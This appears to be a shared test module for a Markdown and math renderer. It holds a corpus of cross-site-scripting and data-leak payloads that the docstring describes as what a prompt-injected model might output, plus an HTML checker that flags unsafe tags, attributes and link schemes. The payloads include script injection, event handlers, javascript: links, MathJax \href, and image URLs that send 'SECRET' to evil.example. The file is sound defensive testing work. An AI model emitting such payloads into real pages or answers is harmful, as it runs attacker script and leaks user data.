"""Hostile answers and the invariants every rendering of them must keep (shared by tests).

``PAYLOADS`` is a corpus of (class, Markdown) pairs: each is something a prompt-injected
model could write. If any of them ran in a page it would set ``window.__jc_pwned`` or
request a URL on ``evil.example`` (the browser test watches for both).
:func:`assert_safe_html` checks rendered HTML with the stdlib ``html.parser``, independently
of the renderer's own allowlist.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

PWN = "window.__jc_pwned=1"
EVIL = "https://evil.example/leak?d=SECRET"

PAYLOADS: list[tuple[str, str]] = [
    # -- raw HTML, block and inline ----------------------------------------------------------
    ("script", f"<script>{PWN}</script>"),
    ("script-src", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"),
    ("script-split", f"<scr<script>ipt>{PWN}</scr</script>ipt>"),
    ("script-unclosed", f"Text before\n\n<script>{PWN}"),
    ("script-inline", f"Hello <script>{PWN}</script> world"),
    ("img-onerror", f'<img src=x onerror="{PWN}">'),
    ("img-inline", f"Look: <img src=x onerror={PWN}> here"),
    ("img-no-quotes-case", f"<IMG SRC=x OnErRoR={PWN}>"),
    ("svg-onload", f'<svg onload="{PWN}"></svg>'),
    ("svg-animate", f'<svg><animate onbegin="{PWN}" attributeName=x dur=1s></svg>'),
    ("svg-set", f'<svg><set onbegin="{PWN}" attributeName=x to=1></svg>'),
    ("svg-xlink", f'<svg><a xlink:href="javascript:{PWN}"><text x=9 y=9>x</text></a></svg>'),
    ("details-ontoggle", f'<details open ontoggle="{PWN}"><summary>x</summary></details>'),
    ("body-onload", f'<body onload="{PWN}">'),
    ("iframe-src", f'<iframe src="javascript:{PWN}"></iframe>'),
    ("iframe-srcdoc", f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>'),
    ("iframe-remote", '<iframe src="https://evil.example/frame"></iframe>'),
    ("video-source", f'<video><source onerror="{PWN}"></video>'),
    ("video-poster", '<video poster="https://evil.example/poster.png"></video>'),
    ("audio-onerror", f'<audio src=x onerror="{PWN}"></audio>'),
    ("marquee", f'<marquee onstart="{PWN}">hi</marquee>'),
    ("object-data", f'<object data="javascript:{PWN}"></object>'),
    ("embed-src", '<embed src="https://evil.example/x.swf">'),
    ("meta-refresh", f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("form-action", f'<form action="javascript:{PWN}"><button>Go</button></form>'),
    ("button-formaction", f'<button formaction="javascript:{PWN}">x</button>'),
    ("input-autofocus", f'<input autofocus onfocus="{PWN}">'),
    ("link-stylesheet", '<link rel=stylesheet href="https://evil.example/x.css">'),
    (
        "style-url",
        "<style>@import 'https://evil.example/x.css';"
        "body{background:url(https://evil.example/bg)}</style>",
    ),
    ("style-attr-url", '<div style="background:url(https://evil.example/bg)">x</div>'),
    ("style-expression", f'<div style="width:expression({PWN})">x</div>'),
    ("math-mxss", f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>"),
    ("noscript-mxss", f'<noscript><p title="</noscript><img src=x onerror={PWN}>">'),
    ("template", f"<template><img src=x onerror={PWN}></template>"),
    ("comment", f"<!--><img src=x onerror={PWN}>-->"),
    ("cdata", f"<![CDATA[<img src=x onerror={PWN}>]]>"),
    ("custom-element", f'<x onclick="{PWN}" style="display:block;width:9999px">x</x>'),
    ("raw-anchor", f'<a href="javascript:{PWN}">click</a>'),
    ("raw-anchor-benign", '<a href="https://evil.example/" onmouseover="x">hover</a>'),
    ("html-in-list", f"- item <img src=x onerror={PWN}>\n- <svg onload={PWN}>"),
    ("html-in-table", f"| a | b |\n|---|---|\n| <img src=x onerror={PWN}> | <b>x</b> |"),
    ("html-in-quote", f"> <script>{PWN}</script>\n> <img src=x onerror={PWN}>"),
    ("html-in-heading", f"# Title <img src=x onerror={PWN}>"),
    ("html-in-link-text", f"[<img src=x onerror={PWN}>](https://ok.example/)"),
    ("html-in-emphasis", f"*<svg onload={PWN}>* and **<b onclick={PWN}>x</b>**"),
    ("null-byte", f"\x00<script>{PWN}</script>"),
    # -- HTML entities that decode to markup or schemes --------------------------------------
    ("entity-tag", f"&lt;img src=x onerror={PWN}&gt;"),
    ("entity-numeric", f"&#60;script&#62;{PWN}&#60;/script&#62;"),
    ("entity-hex", f"&#x3C;svg onload={PWN}&#x3E;"),
    ("entity-link-scheme", f"[x](&#106;avascript:{PWN})"),
    ("entity-link-hex", f"[x](&#x6A;&#x61;vascript:{PWN})"),
    ("entity-colon", f"[x](javascript&colon;{PWN})"),
    ("entity-tab", f"[x](java&#x09;script:{PWN})"),
    ("entity-newline", f"[x](java&#10;script:{PWN})"),
    # -- every Markdown link form with script schemes -----------------------------------------
    ("link-js", f"[x](javascript:{PWN})"),
    ("link-js-mixed-case", f"[x](JaVaScRiPt:{PWN})"),
    ("link-js-space", f"[x]( javascript:{PWN} )"),
    ("link-js-angle", f"[x](<javascript:{PWN}>)"),
    ("link-js-angle-space", f"[x](<java script:{PWN}>)"),
    ("link-js-title", f'[x](javascript:{PWN} "title")'),
    ("link-vbscript", "[x](vbscript:msgbox(1))"),
    ("link-data-html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("link-data-svg", "[x](data:image/svg+xml,<svg onload=alert(1)>)"),
    ("link-file", "[x](file:///etc/passwd)"),
    ("link-protocol-relative", "[x](//evil.example/x)"),
    ("link-backslashes", "[x](\\\\evil.example\\x)"),
    ("link-relative", "[x](../../api/contents)"),
    ("link-percent", f"[x](%6Aavascript:{PWN})"),
    ("ref-link", f"[x][r]\n\n[r]: javascript:{PWN}"),
    ("ref-collapsed", f"[r][]\n\n[r]: javascript:{PWN}"),
    ("ref-shortcut", f'[r]\n\n[r]: <javascript:{PWN}> "t"'),
    ("ref-case", f"[X][R]\n\n[r]: JAVASCRIPT:{PWN}"),
    ("autolink-js", f"<javascript:{PWN}>"),
    ("autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("autolink-mixed-case", f"<JaVaScRiPt:{PWN}>"),
    ("title-double-quote", '[x](https://ok.example/ "a\\" onmouseover=\\"alert(1)")'),
    ("title-single-quote", "[x](https://ok.example/ 'a\" onmouseover=\"alert(1)')"),
    ("title-parens", '[x](https://ok.example/ (a" onclick="alert(1)))'),
    ("url-quote", '[x](https://ok.example/"onmouseover="alert(1))'),
    ("url-angle-quote", '[x](<https://ok.example/" onmouseover="alert(1)>)'),
    ("ref-title-quote", '[x][t]\n\n[t]: https://ok.example/ "a\\" onclick=\\"alert(1)"'),
    # -- images: never fetched --------------------------------------------------------------
    ("image-exfil", f"![chart]({EVIL})"),
    ("image-js", f"![x](javascript:{PWN})"),
    ("image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("image-data-png", "![x](data:image/png;base64,iVBORw0KGgo=)"),
    ("image-ref", f"![x][img]\n\n[img]: {EVIL}"),
    ("image-in-link", f"[![x]({EVIL})](https://ok.example/)"),
    ("image-alt-html", f"![<img src=x onerror={PWN}>]({EVIL})"),
    ("image-title-quote", f'![x]({EVIL} "t\\" onerror=\\"{PWN}")'),
    ("image-many", "\n".join(f"![i{n}](https://evil.example/{n}.png)" for n in range(5))),
    # -- code ---------------------------------------------------------------------------------
    ("fence-html", f"```html\n<script>{PWN}</script>\n<img src=x onerror={PWN}>\n```"),
    ("fence-info-quote", '```python" onmouseover="alert(1)\nx = 1\n```'),
    ("fence-info-tag", f"```<img src=x onerror={PWN}>\nx\n```"),
    ("fence-nested", f"````\n```\n<script>{PWN}</script>\n```\n````\n<img src=x onerror={PWN}>"),
    ("fence-unclosed", f"```js\n</code></pre><img src=x onerror={PWN}>"),
    ("fence-tilde", f"~~~\n<svg onload={PWN}>\n~~~"),
    ("code-inline", f"`<script>{PWN}</script>` and ``<img src=x onerror={PWN}>``"),
    ("code-indented", f"    <script>{PWN}</script>\n    <img src=x onerror={PWN}>"),
    # -- math ---------------------------------------------------------------------------------
    ("math-tag", f"$<img src=x onerror={PWN}>$"),
    ("math-display-script", f"$$<script>{PWN}</script>$$"),
    ("math-paren-svg", f"\\(<svg onload={PWN}>\\)"),
    ("math-bracket-close", f"\\[</span><img src=x onerror={PWN}>\\]"),
    ("math-lt", "$a<b$ and $$x<y>z$$"),
    ("math-block-html", f"$$\n</div><script>{PWN}</script>\n$$"),
    ("tex-href", f"$\\href{{javascript:{PWN}}}{{x}}$"),
    ("tex-href-display", f"$$\\href{{javascript:{PWN}}}{{x}}$$"),
    ("tex-style-url", "$$\\style{background:url(https://evil.example/bg)}{x}$$"),
    ("tex-require", "\\(\\require{https://evil.example/x.js}\\)"),
    ("tex-class", "$\\class{jp-Dialog}{x}$"),
    ("tex-mmltoken", f'$\\mmlToken{{mi}}[href="javascript:{PWN}"]{{x}}$'),
    ("tex-unmatched-space", f"$ \\href{{javascript:{PWN}}}{{x}}$"),
    ("tex-environment", f"\\begin{{equation}}\\href{{javascript:{PWN}}}{{x}}\\end{{equation}}"),
    ("tex-escaped-parens", f"\\\\(\\href{{javascript:{PWN}}}{{x}}\\\\)"),
    ("tex-in-code", f"`$\\href{{javascript:{PWN}}}{{x}}$`"),
    ("tex-newcommand", "$\\newcommand{\\x}{\\alpha} \\x$"),
    # -- odd structure ------------------------------------------------------------------------
    ("deep-quote", "> " * 200 + f"<img src=x onerror={PWN}>"),
    ("deep-list", "".join("  " * i + "- x\n" for i in range(60)) + f"<svg onload={PWN}>"),
    ("many-stars", "*" * 2000 + "<b>x</b>"),
    ("many-dollars", "$a " * 2000),
    ("many-brackets", "[" * 2000 + f"x](javascript:{PWN})"),
    ("ansi-in-html", "\x1b]52;c;SGVsbG8=\x07 \x1b[2J <b>x</b>"),
]

# fmt: off
BENIGN_TAGS = frozenset({
    "a", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6",
    "hr", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup", "table", "tbody", "td",
    "th", "thead", "tr", "ul",
})
# fmt: on
BENIGN_ATTRS = frozenset({"class", "href", "title", "rel", "target", "start", "data-index"})
SCHEMES = ("http", "https", "mailto")
TEX_DANGER = re.compile(r"\\(href|url|style|class|cssId|require|mmlToken|data|html)(?![A-Za-z])")


class _Check(HTMLParser):
    def __init__(self, extra_tags: frozenset[str], extra_attrs: frozenset[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.tags = BENIGN_TAGS | extra_tags
        self.attrs = BENIGN_ATTRS | extra_attrs
        self.problems: list[str] = []
        self.markup_events = 0
        self.stack: list[tuple[str, bool]] = []  # (tag, inside a MathJax-processed element)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.markup_events += 1
        values = {name: value or "" for name, value in attrs}
        if tag not in self.tags:
            self.problems.append(f"tag <{tag}>")
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"event handler {name}")
            elif name == "style":
                if tag not in ("td", "th") or not re.fullmatch(
                    r"text-align:\s*(left|center|right);?", value.strip()
                ):
                    self.problems.append(f"style={value!r}")
            elif name not in self.attrs:
                self.problems.append(f"attribute {name} on <{tag}>")
        if "href" in values:
            href = re.sub(r"[\x00-\x20\x7f-\x9f]", "", values["href"])
            scheme = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", href)
            if not scheme or scheme.group(1).lower() not in SCHEMES:
                self.problems.append(f"href {values['href']!r}")
            if values.get("target") != "_blank" or not {
                "noopener",
                "noreferrer",
                "nofollow",
            } <= set(values.get("rel", "").split()):
                self.problems.append(f"link without rel/target: {values}")
        classes = values.get("class", "").split()
        if any(c.startswith(("jp-", "lm-", "p-")) for c in classes):
            self.problems.append(f"JupyterLab class {classes}")
        processed = (self.stack[-1][1] if self.stack else False) or "mathjax_process" in classes
        if tag not in ("br", "hr"):
            self.stack.append((tag, processed))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag not in ("br", "hr") and self.stack:
            self.stack.pop()

    def handle_endtag(self, tag: str) -> None:
        self.markup_events += 1
        while self.stack:
            if self.stack.pop()[0] == tag:
                break

    def handle_data(self, data: str) -> None:
        if self.stack and self.stack[-1][1] and TEX_DANGER.search(data):
            self.problems.append(f"MathJax would typeset {data!r}")

    def handle_comment(self, data: str) -> None:
        self.problems.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.problems.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.problems.append("processing instruction")

    def unknown_decl(self, data: str) -> None:
        self.problems.append("unknown declaration")


def html_problems(
    markup: str, extra_tags: frozenset[str] = frozenset(), extra_attrs: frozenset[str] = frozenset()
) -> list[str]:
    """Why ``markup`` is unsafe (empty when it is safe)."""
    check = _Check(extra_tags, extra_attrs)
    check.feed(markup)
    check.close()
    problems = check.problems
    lowered = markup.lower()
    for needle in ("<script", "<style", "<img", "<iframe", "<svg", "<object", "<embed"):
        if needle in lowered:
            problems.append(f"raw {needle!r}")
    if markup.count("<") != check.markup_events:  # every "<" opens a tag html.parser saw
        problems.append("a '<' that is not a tag html.parser recognised")
    return problems


def assert_safe_html(markup: str, name: str = "", **kwargs: frozenset[str]) -> None:
    problems = html_problems(markup, **kwargs)
    assert not problems, f"{name}: {problems}\n{markup[:2000]}"
